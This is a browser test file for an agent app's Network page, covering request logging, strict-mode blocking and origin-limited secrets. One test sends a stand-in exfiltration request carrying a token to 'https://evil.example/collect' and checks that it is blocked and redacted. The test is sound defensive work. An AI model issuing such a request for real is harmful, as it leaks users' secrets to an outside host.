import { deleteDB } from 'idb';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { page, userEvent } from 'vitest/browser';
import { createAppNetwork, type AppNetwork } from '../../../src/net/app-network';
import { defaultSettings, loadSettings, openTabagentDb, saveSettings } from '../../../src/store';
import { App } from '../../../src/ui/app';
import { fakeServices } from '../support/fake-services';
import { mount, unmountAll } from '../support/mount';
import { streamingRun } from '../support/scripted-run';

const exact = { exact: true } as const;
const SECRET_VALUE = 'tok-NEVER-SHOWN-4f1c9a';
let dbName = '';
let network: AppNetwork;
let sent: string[] = [];

beforeEach(async () => {
  dbName = `tabagent-network-page-${crypto.randomUUID()}`;
  sent = [];
  const db = await openTabagentDb({ name: dbName });
  const settings = defaultSettings();
  settings.engine = { ...settings.engine, baseUrl: 'https://llm.example/v1', model: 'm', apiKey: 'sk-settings-key-77' };
  await saveSettings(db, settings);
  db.close();
  network = createAppNetwork({
    fetch: async (input, init) => {
      const request = new Request(input, init);
      sent.push(`${request.method} ${request.url}`);
      return new Response('{"ok":true}', { status: 200, headers: { 'Content-Type': 'application/json' } });
    },
  });
  mount(() => <App services={fakeServices(streamingRun(() => ['unused']).run, { network: network.services, useSettings: (settings) => network.services.useSettings(settings) })} databaseName={dbName} />);
  await expect.poll(() => document.querySelector('.app[data-ready]') !== null).toBe(true);
  // The app hands the door the saved settings once they are read.
  await expect.poll(() => network.services.grants().map((grant) => grant.origin)).toContain('https://llm.example');
});

afterEach(async () => {
  unmountAll();
  await deleteDB(dbName);
});

async function openNetworkPage(): Promise<void> {
  await userEvent.click(page.getByRole('link', { name: 'Network', ...exact }));
  await expect.element(page.getByRole('heading', { name: 'Network', level: 2 })).toBeVisible();
}

function rows(): HTMLTableRowElement[] {
  return [...document.querySelectorAll<HTMLTableRowElement>('.network-table tbody tr')];
}

describe('Network page', () => {
  it('lists every request the door saw, newest first, with bytes, requester and outcome; filters and clears', async () => {
    const response = await network.door.as('engine')('https://llm.example/v1/chat/completions', { method: 'POST', body: '{"a":1}' });
    await response.text();
    await expect(network.door.as('tool:fetch_page')('https://evil.example/collect?token=abc')).rejects.toMatchObject({ code: 'network-blocked' });
    expect(sent).toEqual(['POST https://llm.example/v1/chat/completions']);

    await openNetworkPage();
    await expect.poll(() => rows().length).toBe(2);
    const [blocked, allowed] = rows();
    expect(blocked?.textContent).toContain('https://evil.example');
    expect(blocked?.textContent).toContain('tool:fetch_page');
    expect(blocked?.textContent).toContain('Blocked');
    expect(blocked?.textContent).toContain('token=[redacted]');
    expect(allowed?.textContent).toContain('https://llm.example');
    expect(allowed?.textContent).toContain('POST');
    expect(allowed?.textContent).toContain('7 B / 11 B');
    expect(allowed?.textContent).toContain('engine');
    expect(allowed?.textContent).toContain('200');

    // New requests appear while the page is open.
    await (await network.door.as('engine')('https://llm.example/v1/models')).text();
    await expect.poll(() => rows().length).toBe(3);

    await userEvent.selectOptions(page.getByLabelText('Asked by', exact), 'tool:fetch_page');
    await expect.poll(() => rows().length).toBe(1);
    await userEvent.selectOptions(page.getByLabelText('Asked by', exact), '');
    await userEvent.selectOptions(page.getByLabelText('Origin', exact), 'https://llm.example');
    await expect.poll(() => rows().length).toBe(2);

    await userEvent.click(page.getByRole('button', { name: 'Clear the list' }));
    await expect.element(page.getByText('No requests yet.')).toBeVisible();
    expect(await network.services.entries()).toEqual([]);
  });

  it('turns strict mode off and on, saving it in settings and applying it to the very next request', async () => {
    await openNetworkPage();
    const strict = page.getByRole('checkbox', { name: /Strict mode/ });
    await expect.element(strict).toBeChecked();
    // Settings reach the door asynchronously (saved, then applied): poll for the outcome.
    const outcome = () =>
      network.door.fetch('https://elsewhere.example/').then(
        (response) => (response instanceof Response ? 'allowed' : 'other'),
        (error: { code?: string }) => error.code,
      );
    await expect.poll(outcome).toBe('network-blocked');

    await userEvent.click(strict);
    await expect.element(strict).not.toBeChecked();
    await expect.poll(async () => (await loadSettings(await openTabagentDb({ name: dbName }))).strictNetwork).toBe(false);
    await expect.poll(outcome).toBe('allowed');

    await userEvent.click(strict);
    await expect.element(strict).toBeChecked();
    await expect.poll(outcome).toBe('network-blocked');
  });

  it('adds a secret without ever showing its value again, uses it only for its origin, and deletes it', async () => {
    await openNetworkPage();
    // The engine key from Settings is listed by label, its value nowhere on the page.
    await expect.element(page.getByText('Engine API key (Settings)')).toBeVisible();
    expect(document.body.innerHTML).not.toContain('sk-settings-key-77');

    await userEvent.fill(page.getByLabelText('Label', exact), 'Partner token');
    await userEvent.fill(page.getByLabelText('Value', exact), SECRET_VALUE);
    await userEvent.fill(page.getByLabelText('Origins it may be sent to', exact), 'https://llm.example');
    await userEvent.click(page.getByRole('button', { name: 'Add secret' }));
    await expect.element(page.getByRole('status')).toHaveTextContent('Secret "Partner token" added.');
    await expect.element(page.getByLabelText('Value', exact)).toHaveValue('');
    expect(document.body.innerHTML).not.toContain(SECRET_VALUE);

    const info = (await network.services.secrets()).find((secret) => secret.label === 'Partner token');
    expect(info).toBeDefined();
    expect(JSON.stringify(info)).not.toContain(SECRET_VALUE);
    expect(await network.resolveSecret(info!.id, 'https://llm.example')).toBe(`{{secret:${info!.id}}}`);
    expect(await network.resolveSecret(info!.id, 'https://evil.example')).toBeUndefined();

    await userEvent.click(page.getByRole('button', { name: 'Delete secret Partner token' }));
    await expect.element(page.getByText('Partner token', exact)).not.toBeInTheDocument();
    expect((await network.services.secrets()).some((secret) => secret.label === 'Partner token')).toBe(false);
  });

  it('refuses a secret without origins or with a path instead of an origin, saying what to type', async () => {
    await openNetworkPage();
    await userEvent.fill(page.getByLabelText('Label', exact), 'Bad');
    await userEvent.fill(page.getByLabelText('Value', exact), 'v-123456');
    await userEvent.fill(page.getByLabelText('Origins it may be sent to', exact), 'https://api.example.com/v1');
    await userEvent.click(page.getByRole('button', { name: 'Add secret' }));
    await expect.element(page.getByRole('alert')).toHaveTextContent(/is not an origin/);
    await expect.element(page.getByLabelText('Value', exact)).toHaveValue('');
  });
});
